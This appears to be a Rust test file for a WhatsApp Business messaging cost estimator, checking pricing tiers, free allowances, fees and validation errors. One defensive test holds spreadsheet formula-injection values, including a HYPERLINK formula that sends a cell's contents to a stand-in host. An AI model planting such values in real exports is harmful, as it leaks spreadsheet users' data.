//! The worked examples of docs/rules.md that fit a monthly estimate, to the last decimal,
//! plus one scenario per rules version exercising its free allowances.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use wacost_core::category::Category;
use wacost_core::estimate::{compare_cards, estimate, CardsFor, CategoryEstimate, Estimate};
use wacost_core::scenario::{ErrorKind, RulesVersion, Scenario};
use wacost_core::Catalog;

/// (tier, from, to, count, rate, amount) of one band as the estimate reports it.
type BandRow = (u8, u64, Option<u64>, u64, String, String);

fn run(json: &str) -> Estimate {
    let scenario = Scenario::from_json(json).unwrap_or_else(|e| panic!("invalid scenario: {e}"));
    estimate(&scenario).unwrap_or_else(|e| panic!("estimate failed: {e}"))
}

fn category<'a>(estimate: &'a Estimate, market: &str, category: Category) -> &'a CategoryEstimate {
    estimate
        .markets
        .iter()
        .find(|m| m.market == market)
        .unwrap_or_else(|| panic!("no market {market} in {estimate:#?}"))
        .categories
        .iter()
        .find(|c| c.category == category)
        .unwrap_or_else(|| panic!("no {category} in {market}"))
}

#[test]
fn e13_india_october_2026_inr() {
    let e = run(r#"{"month":"2026-10","currency":"INR","phone_numbers":1,
        "lines":[{"country":"IN","marketing":1000,"utility":500,"service":3350}]}"#);
    assert_eq!(
        (e.rules, e.rate_card.as_str(), e.currency.as_str()),
        (RulesVersion::Pmp2026_10, "2026-10-01", "INR")
    );
    let service = category(&e, "India", Category::Service);
    assert_eq!(
        (service.delivered, service.free.allowance, service.charged),
        (3350, 1000, 2350)
    );
    assert_eq!(service.amount, "270.25");
    assert_eq!(category(&e, "India", Category::Marketing).amount, "863.10");
    let utility = category(&e, "India", Category::Utility);
    assert_eq!(
        (utility.charged, utility.amount.to_string().as_str()),
        (500, "57.50")
    );
    // The INR card of 2026-10-01 has no published ladder: list rate, flagged as an upper bound.
    assert!(utility.upper_bound && utility.bands.is_empty());
    assert_eq!(e.meta_total, "1190.85");
    assert_eq!(e.total, "1190.85");
    assert!(
        e.warnings.iter().any(|w| w.contains("held only in part")),
        "{:?}",
        e.warnings
    );
    assert!(
        e.warnings.iter().any(|w| w.contains("upper bound")),
        "{:?}",
        e.warnings
    );
}

#[test]
fn e13_india_october_2026_usd() {
    let e = run(
        r#"{"month":"2026-10","lines":[{"country":"IN","marketing":1000,"utility":500,"service":3350}]}"#,
    );
    assert_eq!(category(&e, "India", Category::Service).amount, "3.29");
    assert_eq!(category(&e, "India", Category::Marketing).amount, "11.80");
    let utility = category(&e, "India", Category::Utility);
    assert_eq!(utility.amount, "0.70");
    assert_eq!(utility.bands.len(), 1);
    assert_eq!(
        (
            utility.bands[0].tier,
            utility.bands[0].count,
            utility.bands[0].rate.to_string().as_str()
        ),
        (1, 500, "0.0014")
    );
    let next = utility.next_tier.as_ref().unwrap();
    assert_eq!(
        (next.tier, next.from, next.messages_to_go),
        (2, 25_000_001, 25_000_001 - 500)
    );
    assert_eq!(
        (
            next.rate.to_string().as_str(),
            next.saving_per_message.to_string().as_str()
        ),
        ("0.0013", "0.0001")
    );
    assert_eq!(e.meta_total, "15.79");
    let driver = e.main_driver.as_ref().unwrap();
    assert_eq!(
        (driver.market.as_str(), driver.category),
        ("India", Category::Marketing)
    );
    assert_eq!(driver.share, "0.7473");
}

#[test]
fn e14_rest_of_africa_marketing_july_and_october_2026() {
    for month in ["2026-07", "2026-10"] {
        let e = run(&format!(
            r#"{{"month":"{month}","lines":[{{"market":"Rest of Africa","marketing":8000}}]}}"#
        ));
        let marketing = category(&e, "Rest of Africa", Category::Marketing);
        assert_eq!(
            (marketing.charged, marketing.amount.to_string().as_str()),
            (8000, "180.00"),
            "{month}"
        );
        assert_eq!(e.meta_total, "180.00");
    }
}

#[test]
fn e15_kazakhstan_service_beyond_the_free_tier() {
    let e = run(r#"{"month":"2026-10","lines":[{"country":"KZ","service":3000}]}"#);
    let service = category(&e, "Kazakhstan", Category::Service);
    assert_eq!(
        (
            service.free.allowance,
            service.charged,
            service.amount.to_string().as_str()
        ),
        (1000, 2000, "36.00")
    );
    assert_eq!(e.meta_total, "36.00");
    // Two phone numbers double the free tier.
    let e =
        run(r#"{"month":"2026-10","phone_numbers":2,"lines":[{"country":"KZ","service":3000}]}"#);
    assert_eq!(
        category(&e, "Kazakhstan", Category::Service).amount,
        "18.00"
    );
}

#[test]
fn e1_as_monthly_counts_two_charges() {
    // One marketing template, two utility templates of which one inside the window, one reply.
    let e = run(r#"{"month":"2026-07","utility_in_window":"0.5",
        "lines":[{"country":"IN","marketing":1,"utility":2,"service":1}]}"#);
    let charged: u64 = e.markets[0].categories.iter().map(|c| c.charged).sum();
    assert_eq!(charged, 2);
    let utility = category(&e, "India", Category::Utility);
    assert_eq!((utility.free.window, utility.charged), (1, 1));
    assert_eq!(category(&e, "India", Category::Service).free.window, 1);
    assert_eq!(e.meta_total, "0.0132");
}

#[test]
fn e5_india_utility_crossing_25_million() {
    let e = run(r#"{"month":"2026-10","lines":[{"country":"IN","utility":30000000}]}"#);
    let utility = category(&e, "India", Category::Utility);
    let bands: Vec<BandRow> = utility
        .bands
        .iter()
        .map(|b| {
            (
                b.tier,
                b.from,
                b.to,
                b.count,
                b.rate.to_string(),
                b.amount.to_string(),
            )
        })
        .collect();
    assert_eq!(
        bands,
        vec![
            (
                1,
                1,
                Some(25_000_000),
                25_000_000,
                "0.0014".into(),
                "35000.00".into()
            ),
            (
                2,
                25_000_001,
                Some(50_000_000),
                5_000_000,
                "0.0013".into(),
                "6500.00".into()
            ),
        ]
    );
    assert_eq!(utility.amount, "41500.00");
    assert_eq!(
        utility.next_tier.as_ref().unwrap().messages_to_go,
        20_000_001
    );
}

#[test]
fn e10_lines_of_one_market_share_the_counter() {
    // Two lines to India (by country and by market) add up to one counter, as two providers
    // billing one portfolio do (Example 4).
    let e = run(r#"{"month":"2026-10","lines":[
        {"country":"IN","utility":20000000},{"market":"india","utility":10000000}]}"#);
    assert_eq!(e.markets.len(), 1);
    assert_eq!(e.markets[0].lines, vec![0, 1]);
    assert_eq!(category(&e, "India", Category::Utility).amount, "41500.00");
}

#[test]
fn authentication_international_tiers() {
    let e = run(
        r#"{"month":"2026-10","business_country":"GB","auth_international":true,
        "lines":[{"country":"IN","authentication":1000000},{"country":"GB","authentication":10}]}"#,
    );
    let intl = category(&e, "India", Category::AuthenticationInternational);
    assert_eq!(intl.amount, "29950.00"); // 750,000 × 0.0304 + 250,000 × 0.0286
                                         // The business's own country keeps the domestic rate.
    assert_eq!(
        category(&e, "United Kingdom", Category::Authentication).charged,
        10
    );
    // Not eligible: everything domestic.
    let e = run(r#"{"month":"2026-10","business_country":"GB",
        "lines":[{"country":"IN","authentication":1000000}]}"#);
    assert_eq!(
        category(&e, "India", Category::Authentication).amount,
        "1375.00"
    ); // 750,000 × 0.0014 + 250,000 × 0.0013
}

#[test]
fn e19_mexico_test_two_conversations() {
    let e = run(
        r#"{"month":"2021-06","free_conversations":0,"lines":[{"country":"MX","marketing":2}]}"#,
    );
    assert_eq!(e.rules, RulesVersion::Mx2021_02);
    let bi = category(&e, "Mexico", Category::BusinessInitiated);
    assert_eq!((bi.charged, bi.amount.to_string().as_str()), (2, "0.028"));
    assert_eq!(e.meta_total, "0.028");
    // The default free tier (1,500) covers them.
    let e = run(r#"{"month":"2021-06","lines":[{"country":"MX","marketing":2}]}"#);
    assert_eq!(e.meta_total, "0.00");
    assert!(e.warnings.iter().any(|w| w.contains("1,500")));
}

#[test]
fn mexico_test_rejects_other_destinations() {
    let scenario = Scenario::from_json(r#"{"month":"2021-06","lines":[{"country":"MX","marketing":2},{"country":"IN","marketing":1}]}"#).unwrap();
    let errors = estimate(&scenario).unwrap_err();
    assert_eq!(errors.0.len(), 1);
    assert_eq!(errors.0[0].path, "lines[1]");
    assert_eq!(
        errors.0[0].kind,
        ErrorKind::OnlyMexico {
            market: "India".into()
        }
    );
    assert!(
        errors.0[0].to_string().contains("template pricing"),
        "{}",
        errors.0[0]
    );
}

#[test]
fn cbp_2022_free_conversations_split_over_lines_and_kinds() {
    let e = run(r#"{"month":"2022-06","lines":[
        {"country":"IN","marketing":701,"service":499},{"country":"BR","marketing":801}]}"#);
    assert_eq!(e.rules, RulesVersion::Cbp2022_02);
    assert_eq!(e.unit, "conversations");
    let in_bi = category(&e, "India", Category::BusinessInitiated);
    let in_ui = category(&e, "India", Category::UserInitiated);
    let br_bi = category(&e, "Brazil", Category::BusinessInitiated);
    // 1,000 free over 701 + 499 + 801: 350.3 / 249.4 / 400.3 → the largest remainder (user-initiated) gets the odd one.
    assert_eq!(
        (
            in_bi.free.allowance,
            in_ui.free.allowance,
            br_bi.free.allowance
        ),
        (350, 250, 400)
    );
    assert_eq!(
        (
            in_bi.amount.to_string().as_str(),
            in_ui.amount.to_string().as_str(),
            br_bi.amount.to_string().as_str()
        ),
        ("2.3166", "0.996", "20.05")
    );
    assert_eq!(e.meta_total, "23.3626");
}

#[test]
fn cbp_2022_utility_inside_the_window_opens_nothing() {
    let e = run(
        r#"{"month":"2022-06","utility_in_window":"0.25","per_conversation":{"utility":"2"},
        "lines":[{"country":"IN","utility":100}]}"#,
    );
    let bi = category(&e, "India", Category::BusinessInitiated);
    // 25 join an open window; 75 messages at 2 per conversation → 38 conversations, all in the free 1,000.
    assert_eq!(
        (
            bi.free.window,
            bi.conversations,
            bi.free.allowance,
            bi.charged
        ),
        (25, Some(38), 38, 0)
    );
}

#[test]
fn cbp_2023_service_free_tier_per_waba() {
    let e = run(r#"{"month":"2023-08","utility_in_window":"0.5","lines":[
        {"country":"ID","service":1300,"utility":100},{"country":"MY","service":900}]}"#);
    assert_eq!(e.rules, RulesVersion::Cbp2023_06);
    let id = category(&e, "Indonesia", Category::Service);
    let my = category(&e, "Malaysia", Category::Service);
    assert_eq!((id.free.allowance, my.free.allowance), (591, 409));
    assert_eq!(
        (
            id.amount.to_string().as_str(),
            my.amount.to_string().as_str()
        ),
        ("13.471", "10.802")
    );
    // A utility template inside the window still opens a charged conversation.
    assert_eq!(category(&e, "Indonesia", Category::Utility).amount, "2.00");
    assert_eq!(e.meta_total, "26.273");
    // Two WABAs: 2,000 free, all 2,200 but 200 free.
    let e = run(
        r#"{"month":"2023-08","wabas":2,"lines":[{"country":"ID","service":1300},{"country":"MY","service":900}]}"#,
    );
    let charged: u64 = e
        .markets
        .iter()
        .flat_map(|m| &m.categories)
        .map(|c| c.charged)
        .sum();
    assert_eq!(charged, 200);
}

#[test]
fn cbp_2024_11_service_conversations_all_free() {
    let e = run(r#"{"month":"2025-01","per_conversation":{"marketing":"2"},
        "lines":[{"country":"IN","service":50000,"marketing":101}]}"#);
    assert_eq!(
        (e.rules, e.rate_card.as_str()),
        (RulesVersion::Cbp2024_11, "2024-10-01")
    );
    let service = category(&e, "India", Category::Service);
    assert_eq!(
        (
            service.conversations,
            service.free.allowance,
            service.charged,
            service.amount.to_string().as_str()
        ),
        (Some(50000), 50000, 0, "0.00")
    );
    let marketing = category(&e, "India", Category::Marketing);
    assert_eq!(
        (marketing.charged, marketing.amount.to_string().as_str()),
        (51, "0.5457")
    );
}

#[test]
fn bsp_fees_on_top_of_metas_charge() {
    let e = run(r#"{"month":"2026-10","phone_numbers":2,
        "lines":[{"market":"Rest of Africa","marketing":8000}],
        "bsp":{"per_message":"0.005","per_message_on":"charged","markup":"0.10","monthly":"49","per_number":"5"}}"#);
    // 8000 × 0.005 = 40; 10 % of 180 = 18; 49; 2 × 5 = 10.
    assert_eq!(
        (
            e.bsp.per_message.to_string().as_str(),
            e.bsp.markup.to_string().as_str(),
            e.bsp.monthly.to_string().as_str(),
            e.bsp.per_number.to_string().as_str()
        ),
        ("40.00", "18.00", "49.00", "10.00")
    );
    assert_eq!(
        (
            e.meta_total.to_string().as_str(),
            e.bsp_fees.to_string().as_str(),
            e.total.to_string().as_str()
        ),
        ("180.00", "117.00", "297.00")
    );
    let e = run(
        r#"{"month":"2026-10","entry_point":"0.5","lines":[{"market":"Rest of Africa","marketing":8000}],
        "bsp":{"per_message":"0.001","per_message_on":"delivered"}}"#,
    );
    assert_eq!(
        (
            e.meta_total.to_string().as_str(),
            e.bsp_fees.to_string().as_str(),
            e.total.to_string().as_str()
        ),
        ("90.00", "8.00", "98.00")
    );
}

#[test]
fn the_spec_example_scenario() {
    let e = run(r#"{
      "month": "2026-11", "currency": "USD", "rules": "pmp-2026-10", "rate_card": "2026-10-01",
      "business_country": "GB", "auth_international": false, "phone_numbers": 1, "wabas": 1,
      "utility_in_window": "0.25", "entry_point": "0.10",
      "per_conversation": { "marketing": "1", "utility": "1.5", "authentication": "1", "service": "4" },
      "lines": [
        { "country": "IN", "marketing": 1000, "utility": 500, "authentication": 0, "service": 3350 },
        { "market": "Rest of Africa", "marketing": 8000 }
      ],
      "bsp": { "per_message": "0.005", "per_message_on": "charged", "markup": "0.10", "monthly": "49", "per_number": "0" }
    }"#);
    let utility = category(&e, "India", Category::Utility);
    assert_eq!(
        (
            utility.free.entry_point,
            utility.free.window,
            utility.charged,
            utility.amount.to_string().as_str()
        ),
        (50, 0, 450, "0.63")
    );
    // Service: 335 in an entry point window, 1,000 free, 2,015 charged × 0.0014.
    let service = category(&e, "India", Category::Service);
    assert_eq!(
        (
            service.free.entry_point,
            service.free.allowance,
            service.charged,
            service.amount.to_string().as_str()
        ),
        (335, 1000, 2015, "2.821")
    );
    // Marketing: 900 × 0.0118 + 7,200 × 0.0225.
    assert_eq!(category(&e, "India", Category::Marketing).amount, "10.62");
    assert_eq!(
        category(&e, "Rest of Africa", Category::Marketing).amount,
        "162.00"
    );
    assert_eq!(e.meta_total, "176.071");
    // Fees: (900 + 450 + 2015 + 7200) × 0.005 = 52.825; markup 17.6071; monthly 49.
    assert_eq!(e.bsp_fees, "119.4321");
    assert_eq!(e.total, "295.5031");
}

#[test]
fn warnings_us_marketing_straddle_and_custom_rates() {
    let e = run(
        r#"{"month":"2026-09","lines":[{"country":"US","marketing":100},{"country":"CA","marketing":100}]}"#,
    );
    let us: Vec<&String> = e
        .warnings
        .iter()
        .filter(|w| w.contains("United States numbers"))
        .collect();
    assert_eq!(us.len(), 1, "{:?}", e.warnings);
    assert!(us[0].starts_with("lines[0]"));
    // Several US lines: one warning naming them, with their marketing messages summed.
    let e = run(
        r#"{"month":"2026-09","lines":[{"country":"US","marketing":1000},{"country":"IN","marketing":5},
            {"country":"US","marketing":2500},{"country":"US","marketing":1},{"country":"US","marketing":1},
            {"country":"US","marketing":0}]}"#,
    );
    let us: Vec<&String> = e
        .warnings
        .iter()
        .filter(|w| w.contains("United States numbers"))
        .collect();
    assert_eq!(
        us,
        vec!["lines[0], lines[2], lines[3] and 1 more: marketing templates to +1 United States numbers are not delivered (since April 2025), so Meta charges nothing for them; the 3,502 marketing messages to the United States are priced here as if they were delivered."]
    );
    let e = run(r#"{"month":"2026-09","lines":[{"market":"North America","marketing":100}]}"#);
    assert!(e
        .warnings
        .iter()
        .any(|w| w.contains("United States numbers")));
    let e = run(r#"{"month":"2026-09","lines":[{"market":"North America","utility":100}]}"#);
    assert!(!e
        .warnings
        .iter()
        .any(|w| w.contains("United States numbers")));

    let e = run(
        r#"{"month":"2026-10","rate_card":"2026-07-01","lines":[{"country":"IN","marketing":100}]}"#,
    );
    assert!(
        e.warnings
            .iter()
            .any(|w| w.contains("the card in force on 2026-10-01 is 2026-10-01")),
        "{:?}",
        e.warnings
    );

    let e = run(
        r#"{"month":"2026-10","lines":[{"country":"IN","utility":1000},{"market":"Atlantis","marketing":10}],
        "custom_rates":[{"market":"India","category":"utility","rate":"0.001"},{"market":"Atlantis","category":"marketing","rate":"0.5"}]}"#,
    );
    let utility = category(&e, "India", Category::Utility);
    assert!(utility.custom && utility.bands.is_empty());
    assert_eq!(utility.amount, "1.00");
    assert_eq!(category(&e, "Atlantis", Category::Marketing).amount, "5.00");
    assert!(e.custom);
    assert!(
        e.warnings
            .iter()
            .any(|w| w.contains("India utility is priced with your custom rate")),
        "{:?}",
        e.warnings
    );

    let e = run(
        r#"{"month":"2026-10","lines":[{"country":"IN","utility":3000}],
        "custom_tiers":[{"market":"India","category":"utility","bands":[{"to":1000,"rate":"0.002"},{"to":null,"rate":"0.001"}]}]}"#,
    );
    let utility = category(&e, "India", Category::Utility);
    assert_eq!(
        (
            utility.bands.len(),
            utility.amount.to_string().as_str(),
            utility.custom
        ),
        (2, "4.00", true)
    );
}

#[test]
fn errors_name_the_line_the_market_and_the_card() {
    // The 2023-06-01 card holds every market but India's authentication rate (printed as 0
    // by its one source, so left out).
    let scenario = Scenario::from_json(r#"{"month":"2023-08","lines":[{"country":"ID","service":5},{"country":"IN","authentication":5}]}"#).unwrap();
    let errors = estimate(&scenario).unwrap_err();
    assert_eq!(errors.0.len(), 1, "{errors}");
    assert_eq!(errors.0[0].path, "lines[1]");
    assert_eq!(
        errors.0[0].kind,
        ErrorKind::NoRateForLine {
            market: "India".into(),
            category: Category::Authentication,
            rules: RulesVersion::Cbp2023_06,
            currency: "USD".into(),
            card: chrono::NaiveDate::from_ymd_opt(2023, 6, 1).unwrap(),
        },
        "{errors}"
    );
    // The CLP 2026-07-01 card lacks the five "Rest of" regions but Latin America's.
    let scenario = Scenario::from_json(r#"{"month":"2026-11","currency":"CLP","lines":[{"country":"CL","marketing":5},{"market":"Rest of Africa","marketing":5}]}"#).unwrap();
    let errors = estimate(&scenario).unwrap_err();
    assert_eq!(errors.0.len(), 1, "{errors}");
    assert_eq!(errors.0[0].path, "lines[1]");
    assert_eq!(
        errors.0[0].kind,
        ErrorKind::MarketNotOnCard {
            market: "Rest of Africa".into(),
            currency: "CLP".into(),
            card: chrono::NaiveDate::from_ymd_opt(2026, 7, 1).unwrap(),
            partial: true,
        },
        "{errors}"
    );
    for (json, path) in [
        (
            r#"{"month":"2026-10","currency":"AUD","lines":[]}"#,
            "currency",
        ),
        (
            r#"{"month":"2026-10","rate_card":"2026-10-02","lines":[]}"#,
            "rate_card",
        ),
        (r#"{"month":"2021-01","lines":[]}"#, "month"),
        (
            r#"{"month":"2026-10","lines":[{"market":"Narnia","marketing":1}]}"#,
            "lines[0].market",
        ),
    ] {
        let errors = estimate(&Scenario::from_json(json).unwrap()).unwrap_err();
        assert_eq!(errors.0[0].path, path, "{json}: {errors}");
    }
}

#[test]
fn compare_prices_one_card_under_every_rules_version() {
    let scenario = Scenario::from_json(r#"{"month":"2026-10","lines":[{"country":"IN","marketing":1000,"utility":500,"service":3350}]}"#).unwrap();
    let comparison = compare_cards(Catalog::builtin(), &scenario, CardsFor::Same).unwrap();
    assert_eq!(comparison.rate_card, "2026-10-01");
    assert_eq!(comparison.versions.len(), 6);
    let total = |rules: RulesVersion| {
        comparison
            .versions
            .iter()
            .find(|v| v.rules == rules)
            .and_then(|v| v.estimate.as_ref())
            .map(|e| e.meta_total.to_string())
    };
    assert_eq!(total(RulesVersion::Pmp2026_10).as_deref(), Some("15.79"));
    assert_eq!(total(RulesVersion::Pmp2025_07).as_deref(), Some("12.50")); // service free
    assert_eq!(total(RulesVersion::Cbp2024_11).as_deref(), Some("12.50"));
    // 3,350 service conversations, 1,000 free, 2,350 × 0.0014.
    assert_eq!(total(RulesVersion::Cbp2023_06).as_deref(), Some("15.79"));
    // The 2026 card has no conversation rates by initiator, and the Mexico test prices only Mexico.
    let mx = comparison
        .versions
        .iter()
        .find(|v| v.rules == RulesVersion::Mx2021_02)
        .unwrap();
    assert!(mx.estimate.is_none() && mx.errors[0].contains("Mexico"));
    // The same problems as data, one per field, for a surface that words them itself.
    assert_eq!(mx.problems[0].path, "lines[0]");
    assert!(
        matches!(&mx.problems[0].kind, ErrorKind::OnlyMexico { market } if market == "India"),
        "{:?}",
        mx.problems
    );
    assert!(mx.problems.len() >= mx.errors.len());
    // One line per reason, not per scenario line.
    assert!(
        mx.errors.len() <= comparison.differences.len(),
        "{:?}",
        mx.errors
    );
    let cbp1 = comparison
        .versions
        .iter()
        .find(|v| v.rules == RulesVersion::Cbp2022_02)
        .unwrap();
    assert!(
        cbp1.estimate.is_none() && cbp1.errors[0].contains("business_initiated"),
        "{:?}",
        cbp1.errors
    );
    let service = comparison
        .differences
        .iter()
        .find(|d| d.market == "India" && d.category == Category::Service)
        .unwrap();
    assert!(service.differs);
    assert_eq!(service.amounts.len(), 4);
    assert!(service
        .reasons
        .iter()
        .any(|r| r.starts_with("pmp-2025-07: service messages are free")));
}

#[test]
fn scenario_json_round_trips() {
    let text = r#"{"month":"2026-11","rules":"pmp-2026-10","rate_card":"2026-10-01","business_country":"gb",
        "utility_in_window":0.25,"entry_point":"0.10","per_conversation":{"service":"4"},
        "lines":[{"country":"IN","marketing":"1000"},{"market":"Rest of Africa","marketing":8000}],
        "bsp":{"per_message":"0.005","markup":0.1},
        "custom_rates":[{"market":"India","category":"authentication-international","rate":"0.03"}],
        "custom_tiers":[{"market":"India","category":"utility","bands":[{"to":10,"rate":"0.002"},{"to":null,"rate":"0.001"}]}]}"#;
    let scenario = Scenario::from_json(text).unwrap();
    assert_eq!(scenario.business_country.as_deref(), Some("GB"));
    assert_eq!(scenario.utility_in_window.to_string(), "0.25");
    assert_eq!(scenario.lines[0].marketing, 1000);
    let again = Scenario::from_json(&scenario.to_json()).unwrap();
    assert_eq!(again, scenario);
    let through_serde: Scenario = serde_json::from_str(&scenario.to_json()).unwrap();
    assert_eq!(through_serde, scenario);
    let estimate_json = serde_json::to_string(&estimate(&scenario).unwrap()).unwrap();
    let back: Estimate = serde_json::from_str(&estimate_json).unwrap();
    assert_eq!(back, estimate(&scenario).unwrap());
}

#[test]
fn every_bad_value_is_listed_with_its_path() {
    let errors = Scenario::from_json(r#"{"month":"2026-11","entry_pont":"0.1","utility_in_window":"1.5",
        "lines":[{"country":"IN","utility":"12.5"},{"country":"IND","marketing":-1},{"market":"India","marketing":"abc","servce":1},
                 {"country":"IN","service":1000000000001}],
        "per_conversation":{"service":"0.5"}, "bsp":{"per_message_on":"sent"}}"#)
    .unwrap_err();
    let shown: Vec<String> = errors.lines();
    for expected in [
        "entry_pont: unknown field",
        "utility_in_window: must be a decimal number from 0 to 1, got \"1.5\"",
        "lines[0].utility: must be a whole number >= 0, got \"12.5\"",
        "lines[1].country: must be an ISO 3166-1 alpha-2 country code",
        "lines[1].marketing: must be a whole number >= 0, got -1",
        "lines[2].marketing: must be a whole number >= 0, got \"abc\"",
        "lines[2].servce: unknown field",
        "lines[3].service: must be at most 1000000000000",
        "per_conversation.service: must be a decimal number from 1 to",
        "bsp.per_message_on: must be \"charged\" or \"delivered\", got \"sent\"",
    ] {
        assert!(
            shown.iter().any(|l| l.starts_with(expected)),
            "missing `{expected}` in {shown:#?}"
        );
    }
    assert_eq!(shown.len(), 10, "{shown:#?}");
    assert!(Scenario::from_json("{\"month\": ").unwrap_err().lines()[0]
        .starts_with("(input): not valid JSON"));
    assert!(
        Scenario::from_json(r#"{"lines":[]}"#).unwrap_err().lines()[0]
            .starts_with("month: is required")
    );
    assert!(
        Scenario::from_json(r#"{"rules":"pmp-2027-01","rate_card":"2026-10-01"}"#)
            .unwrap_err()
            .lines()[0]
            .starts_with("rules: `pmp-2027-01` is not a rules version")
    );
}

#[test]
fn fees_and_custom_rates_have_limits() {
    let errors = Scenario::from_json(
        r#"{"month":"2026-10","lines":[],"bsp":{"markup":"1001","per_message":"2000000"},
            "custom_rates":[{"market":"India","category":"utility","rate":"1000001"}]}"#,
    )
    .unwrap_err()
    .lines();
    assert_eq!(
        errors,
        vec![
            "bsp.per_message: must be a decimal number from 0 to 1000000, got \"2000000\"",
            "bsp.markup: must be a decimal number from 0 to 1000, got \"1001\"",
            "custom_rates[0].rate: must be a decimal number from 0 to 1000000, got \"1000001\"",
        ]
    );
}

/// Market names end up in CSV exports, where a name starting like a formula would run in the
/// spreadsheet that opens the file: every place a market is named refuses one.
#[test]
fn market_names_that_start_like_a_formula_are_refused() {
    let errors = Scenario::from_json(
        r#"{"month":"2026-10","lines":[{"market":" =1+1","marketing":5},{"market":"Rest of Africa"}],
            "custom_rates":[{"market":"=HYPERLINK(\"https://x.example/?\"&B2,\"rates\")","category":"utility","rate":"0.01"},
                            {"market":"+Atlantis","category":"marketing","rate":"0.02"}],
            "custom_tiers":[{"market":"@India","category":"utility","bands":[{"to":null,"rate":"0.001"}]},
                            {"market":"-5","category":"utility","bands":[{"to":null,"rate":"0.001"}]}]}"#,
    )
    .unwrap_err()
    .lines();
    assert_eq!(
        errors,
        vec![
            r#"lines[0].market: must not begin with "=" (a spreadsheet would read it as a formula), got " =1+1""#,
            r#"custom_rates[0].market: must not begin with "=" (a spreadsheet would read it as a formula), got "=HYPERLINK(\"https://x.example/?\"&B2,\"rates\")""#,
            r#"custom_rates[1].market: must not begin with "+" (a spreadsheet would read it as a formula), got "+Atlantis""#,
            r#"custom_tiers[0].market: must not begin with "@" (a spreadsheet would read it as a formula), got "@India""#,
            r#"custom_tiers[1].market: must not begin with "-" (a spreadsheet would read it as a formula), got "-5""#,
        ]
    );
}

/// Rules of one era on a card of another (2022 rules on the 2026 card, which prices by
/// category, not by initiator): one error per missing category names the cards that have it,
/// rather than one identical error per line.
#[test]
fn rules_and_card_of_different_eras_fail_once_per_category() {
    let scenario = Scenario::from_json(
        r#"{"month":"2026-11","rules":"cbp-2022-02",
            "lines":[{"country":"IN","marketing":100,"service":5000},{"country":"BR","utility":10},
                     {"country":"DE","marketing":7}]}"#,
    )
    .unwrap();
    let errors = estimate(&scenario).unwrap_err().lines();
    assert_eq!(
        errors,
        vec![
            "rate_card: the USD 2026-10-01 card has no business_initiated rate for any market, and the cbp-2022-02 rules charge business_initiated conversations; choose another card with rate_card (USD cards that have them: 2021-02-01, 2022-02-01), or add custom_rates",
            "rate_card: the USD 2026-10-01 card has no user_initiated rate for any market, and the cbp-2022-02 rules charge user_initiated conversations; choose another card with rate_card (USD cards that have them: 2021-02-01, 2022-02-01), or add custom_rates",
        ]
    );
    // Once the user prices the category somewhere, the lines still unpriced are named one by one.
    let scenario = Scenario::from_json(
        r#"{"month":"2026-11","rules":"cbp-2022-02",
            "custom_rates":[{"market":"India","category":"business_initiated","rate":"0.01"},
                            {"market":"India","category":"user_initiated","rate":"0.004"}],
            "lines":[{"country":"IN","marketing":100,"service":5000},{"country":"BR","utility":10}]}"#,
    )
    .unwrap();
    let errors = estimate(&scenario).unwrap_err().lines();
    assert_eq!(errors.len(), 1, "{errors:?}");
    assert!(
        errors[0].starts_with(
            "lines[1]: the USD 2026-10-01 card has no business_initiated rate for Brazil"
        ),
        "{errors:?}"
    );
}

/// Every warning has its note, in the same order, and is that note's English sentence: a page
/// in another language words the same facts, never other ones.
#[test]
fn notes_carry_the_warnings_as_data() {
    let e = run(
        r#"{"month":"2026-09","rules":"pmp-2026-10","entry_point":"0.1",
            "custom_rates":[{"market":"India","category":"utility","rate":"0.001"}],
            "lines":[{"country":"US","marketing":1000},{"country":"IN","utility":5000000},
                     {"country":"US","marketing":2500}]}"#,
    );
    assert_eq!(e.notes.len(), e.warnings.len());
    for (note, warning) in e.notes.iter().zip(&e.warnings) {
        assert_eq!(&note.english(), warning);
    }
    use wacost_core::estimate::Note;
    assert!(e.notes.contains(&Note::UsMarketingNotDelivered {
        lines: vec![0, 2],
        marketing: 3500,
        by_market: false
    }));
    assert!(e.notes.contains(&Note::RulesNotOfMonth {
        rules: RulesVersion::Pmp2026_10,
        month: "2026-09".into(),
        in_force: RulesVersion::Pmp2025_07
    }));
    assert!(e.notes.iter().any(|n| matches!(n,
        Note::CustomRate { market, category: Category::Utility, flat: true, .. } if market == "India")));
    // India utility: 4,500,000 charged × 0.001 = 4500.00 of 4500.00 + US marketing.
    let Some(Note::MainDriver {
        market,
        category,
        fields,
        ..
    }) = e.notes.last()
    else {
        panic!("{:?}", e.notes);
    };
    assert_eq!((market.as_str(), *category), ("India", Category::Utility));
    assert_eq!(fields, &["lines.utility", "entry_point", "custom_rates"]);
    // The notes travel in the JSON and come back.
    let again: Estimate = serde_json::from_str(&serde_json::to_string(&e).unwrap()).unwrap();
    assert_eq!(again, e);
}
